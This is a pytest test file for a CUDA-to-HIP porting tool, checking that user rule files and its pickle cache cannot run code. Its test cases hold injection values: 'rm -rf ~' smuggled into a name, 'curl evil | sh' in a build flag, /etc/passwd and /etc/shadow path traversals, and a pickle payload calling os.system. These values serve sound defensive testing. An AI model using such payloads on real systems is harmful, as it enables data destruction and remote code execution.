"""Guarantee 6: a rule file is untrusted input.

It cannot run code (no eval, no unpickling of anything it controls, no
templates of its own), cannot write into the ported code anything but the
names, paths and flags its fields stand for, and a malformed one is reported
as file:line: message, never a traceback.
"""
from __future__ import annotations

import ast
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT
from hipport.engine.port import port_source
from hipport.ruleset.loader import MAX_RULE_FILE_BYTES, load_rules, parse_rule_file
from hipport.ruleset.schema import RuleFileError

BAD_RULE_FILES = [
    # (name, text, line, message fragment)
    ("wrong top-level type", 'schema = 1\nmarkers = "__global__"\n', 2, "'markers' must be a list of strings"),
    ("wrong field type", 'schema = 1\n[[wrap_argument]]\ncuda = "cudaX"\nargument = "0"\nwrapper = "W"\n', 4,
     "field 'argument' must be a integer"),
    ("unknown key", 'schema = 1\n\n[[header]]\ncuda = "a.h"\nhipp = "b.h"\n', 5, "unknown field 'hipp' in header rule"),
    ("duplicate name", 'schema = 1\nrename = [\n  { cuda = "cudaA", hip = "hipA" },\n  { cuda = "cudaA", hip = "hipB" },\n]\n',
     4, "duplicate rename rule for 'cudaA' (first at line 3)"),
    ("duplicate across rename and unsupported",
     'schema = 1\n[[rename]]\ncuda = "cudaA"\nhip = "hipA"\n\n[[unsupported]]\ncuda = "cudaA"\n', 6,
     "duplicate unsupported rule for 'cudaA' (first at line 2)"),
    ("bad TOML", 'schema = 1\nrename = [\n  { cuda = "cudaA" hip = "hipA" },\n]\n', 3, "invalid TOML"),
    ("bad version", 'schema = 1\nrename = [ { cuda = "cudaA", hip = "hipA", added = "6.0.1.2" } ]\n', 2,
     "'added' is not a version"),
    ("version with a line break", 'schema = 1\nrename = [ { cuda = "cudaA", hip = "hipA", removed = "6.0\\n" } ]\n', 2,
     "'removed' is not a version"),
    ("unsupported schema", "schema = 2\n", 1, "unsupported schema 2"),
    ("cuda name is not an identifier", 'schema = 1\nrename = [ { cuda = "cuda Malloc", hip = "hipMalloc" } ]\n', 2,
     "'cuda' must be a C identifier"),
    ("hip name smuggles code", 'schema = 1\nrename = [\n  { cuda = "cudaFree", hip = "hipFree); system(\\"rm -rf ~\\"); (void" },\n]\n',
     3, "'hip' must be a C++ name"),
    ("wrapper smuggles code", 'schema = 1\n[[wrap_argument]]\ncuda = "cudaX"\nargument = 0\nwrapper = "W(0), evil"\n', 5,
     "'wrapper' must be a C++ name"),
    ("header path escapes upwards", 'schema = 1\nheader = [\n  { cuda = "a.h", hip = "../../etc/passwd" },\n]\n', 3,
     "'hip' must be a relative header path without '..'"),
    ("absolute header path", 'schema = 1\nheader = [ { cuda = "a.h", roc = "/etc/shadow" } ]\n', 2,
     "'roc' must be a relative header path"),
    ("header path with a line break", 'schema = 1\nheader = [ { cuda = "a.h", hip = "x.h>\\n#include <evil.h" } ]\n', 2,
     "'hip' must be a relative header path"),
    ("runtime include escapes", 'schema = 1\nruntime_include = "../x.h"\n', 2, "'runtime_include' must be a relative header path"),
    ("terminal escape in a message", 'schema = 1\nname_lint = [ { cuda = "cudaX", code = "HP301", message = "\\u001b[2J" } ]\n', 2,
     "control character"),
    ("template attribute access", 'schema = 1\n[[rewrite]]\ncuda = "cudaX"\nhip = "hipX"\nsince = "6.2"\n'
     'message = "{cuda.__class__}"\n', 6, "may only use the placeholders"),
    ("template padding bomb", 'schema = 1\n[[lint]]\ncode = "HP401"\nmatch = "name"\nnames = ["warpSize"]\n'
     'message = "{name:>999999999}"\n', 6, "not {name:>999999999}"),
    ("build flag smuggles a shell command", 'schema = 1\n[[build_flag]]\nflag = "-G"\nhip = "-O2; curl evil | sh"\n', 4,
     "'hip' must be compiler flags"),
    ("pattern too big to compile", 'schema = 1\npatterns = [\n  "a{99999999999}",\n]\n', 3, "bad pattern"),
    ("lint pattern nested too deep", 'schema = 1\n[[lint]]\ncode = "HP401"\nmatch = "name"\npattern = "'
     + "(" * 2000 + ")" * 2000 + '"\nmessage = "m"\n', 5, "bad regular expression"),
    ("arrays nested deeply", "schema = 1\nx = " + "[" * 100_000 + "]" * 100_000 + "\n", 2, "nest deeper than 16 levels"),
    ("dotted key with 100,000 parts", "schema = 1\na" + ".b" * 100_000 + " = 1\n", 2, "more than 32 dots"),
    ("not UTF-8", 'schema = 1\n# caf\xe9\n', 2, "rule files must be UTF-8"),
]


@pytest.mark.parametrize("name, text, line, message", BAD_RULE_FILES, ids=[case[0] for case in BAD_RULE_FILES])
def test_malformed_rule_file_gives_a_precise_error(tmp_path, name, text, line, message):
    path = tmp_path / "mine.toml"
    path.write_bytes(text.encode("latin-1") if name == "not UTF-8" else text.encode())
    with pytest.raises(RuleFileError) as info:
        parse_rule_file(path, path.read_bytes())
    assert info.value.line == line, str(info.value)
    assert message in info.value.message, str(info.value)
    assert str(info.value).startswith(f"{path}:{line}: ")
    assert "\n" not in str(info.value)


def test_huge_rule_file_is_refused_without_reading_it_all(tmp_path):
    path = tmp_path / "huge.toml"
    with open(path, "wb") as f:
        f.write(b"schema = 1\n")
        f.truncate(MAX_RULE_FILE_BYTES + 1)
    with pytest.raises(RuleFileError, match="larger than 16 MiB"):
        load_rules([path], use_cache=False)


@pytest.mark.parametrize("name", ["hip name smuggles code", "arrays nested deeply", "dotted key with 100,000 parts"])
def test_cli_refuses_a_bad_rule_file_in_one_line(tmp_path, name):
    text = next(case[1] for case in BAD_RULE_FILES if case[0] == name)
    rules = tmp_path / "mine.toml"
    rules.write_text(text)
    src = tmp_path / "a.cu"
    src.write_text("void f(void* p) { cudaFree(p); }\n")
    proc = subprocess.run([sys.executable, "-m", "hipport", "convert", str(src), "-o", "-", "--rules", str(rules)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith(f"hipport: {rules}:") and proc.stderr.count("\n") == 1, proc.stderr
    assert "Traceback" not in proc.stderr and proc.stdout == ""


def test_every_builtin_rule_file_passes_the_untrusted_checks():
    from hipport.ruleset.loader import builtin_rule_files

    for path in builtin_rule_files():
        parse_rule_file(path, path.read_bytes())  # as a --rules file would be: shape and formats included


def test_what_a_user_rule_writes_into_code_is_only_names(tmp_path):
    mine = tmp_path / "mine.toml"
    mine.write_text('schema = 1\nrename = [ { cuda = "cudaFree", hip = "rocrand_device::engine<false>" } ]\n')
    out = port_source(b"void f(void* p) { cudaFree(p); }\n", load_rules([mine], use_cache=False)).output
    assert b"rocrand_device::engine<false>(p)" in out


# -- no code runs from user data ----------------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "loads", "load", "from_string", "Template"}
# Calls named like the above that read no untrusted data, each with its reason.
ALLOWED = {
    ("hipport/cache_files.py", "load"): "the restricted unpickler itself",
    ("hipport/ruleset/compiled_cache.py", "load"): "RestrictedUnpickler(...).load(): rule classes only",
    ("hipport/tree/cache.py", "load"): "RestrictedUnpickler(...).load(): FileResult records only",
    ("hipport/ruleset/loader.py", "loads"): "tomllib.loads: TOML is data",
    ("hipport/config.py", "loads"): "tomllib.loads: TOML is data",
    ("hipport/toolchain/compdb.py", "load"): "compdb.load reads compile_commands.json with json",
    ("hipport/parse/clang/__init__.py", "load"): "compdb.load",
    ("hipport/cli/verify_setup.py", "load"): "compdb.load (verify -p)",
    ("hipport/cli/verify.py", "load"): "Report.load reads convert's JSON report with json",
    ("hipport/project.py", "load"): "compdb.load: the -I directories of compile_commands.json",
}


def _calls(path: Path):
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
            receiver = ast.unparse(func.value) if isinstance(func, ast.Attribute) else ""
            yield name, receiver, node.lineno


def test_no_eval_exec_or_unrestricted_unpickling_in_hipport():
    found = []
    for path in sorted((ROOT / "hipport").rglob("*.py")):
        rel = path.relative_to(ROOT).as_posix()
        for name, receiver, line in _calls(path):
            if name not in FORBIDDEN_CALLS or (rel, name) in ALLOWED:
                continue
            if name in ("load", "loads") and receiver in ("json", "tomllib"):
                continue  # data formats: they build dicts and lists, nothing else
            if name == "compile" and receiver == "re":
                continue
            found.append(f"{rel}:{line}: {receiver + '.' if receiver else ''}{name}(...)")
    assert not found, "code that could run what data says; review it and list it in ALLOWED:\n" + "\n".join(found)


def test_html_templates_come_from_the_package_and_autoescape():
    source = (ROOT / "hipport" / "report" / "html.py").read_text()
    assert "PackageLoader(" in source and "autoescape=True" in source
    assert "FileSystemLoader" not in source and "from_string" not in source


# -- the rule cache -------------------------------------------------------------------

class _Boom:
    def __reduce__(self):
        return (os.system, ("echo planted > planted.txt",))


def _plant(cache: Path, payload) -> None:
    cache.write_bytes(pickle.dumps(payload))
    cache.chmod(0o600)


def test_a_planted_rule_cache_runs_nothing(tmp_path, monkeypatch):
    monkeypatch.setenv("HIPPORT_CACHE_DIR", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    first = load_rules()
    (cache,) = tmp_path.glob("hipport/rules-*.pickle")
    _plant(cache, _Boom())  # owned by this user with the right mode: only the unpickler stands in the way
    again = load_rules()
    assert not (tmp_path / "planted.txt").exists()
    assert again.names.keys() == first.names.keys()
    from hipport.ruleset import loader

    with loader.open_private(cache) as f:  # rebuilt over the planted file
        assert isinstance(loader._load_cache(f), loader.RuleSet)


def test_a_rule_cache_others_can_write_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setenv("HIPPORT_CACHE_DIR", str(tmp_path))
    first = load_rules()
    (cache,) = tmp_path.glob("hipport/rules-*.pickle")
    data = cache.read_bytes()
    cache.chmod(0o666)
    loads = []
    monkeypatch.setattr("hipport.ruleset.loader._load_cache", lambda f: loads.append(f) or pickle.loads(data))
    load_rules()
    assert loads == []  # refused before unpickling
    assert oct(cache.stat().st_mode & 0o777) == "0o600"  # and replaced by a private one
    assert load_rules().digest == first.digest and len(loads) == 1


def test_the_rule_cache_really_loads_through_the_restricted_unpickler(tmp_path, monkeypatch):
    """If a new class joins RuleSet and is not allowed, every run would silently rebuild the rules."""
    from hipport.ruleset import loader

    monkeypatch.setenv("HIPPORT_CACHE_DIR", str(tmp_path))
    load_rules()
    (cache,) = tmp_path.glob("hipport/rules-*.pickle")
    with loader.open_private(cache) as f:
        assert isinstance(loader._load_cache(f), loader.RuleSet)
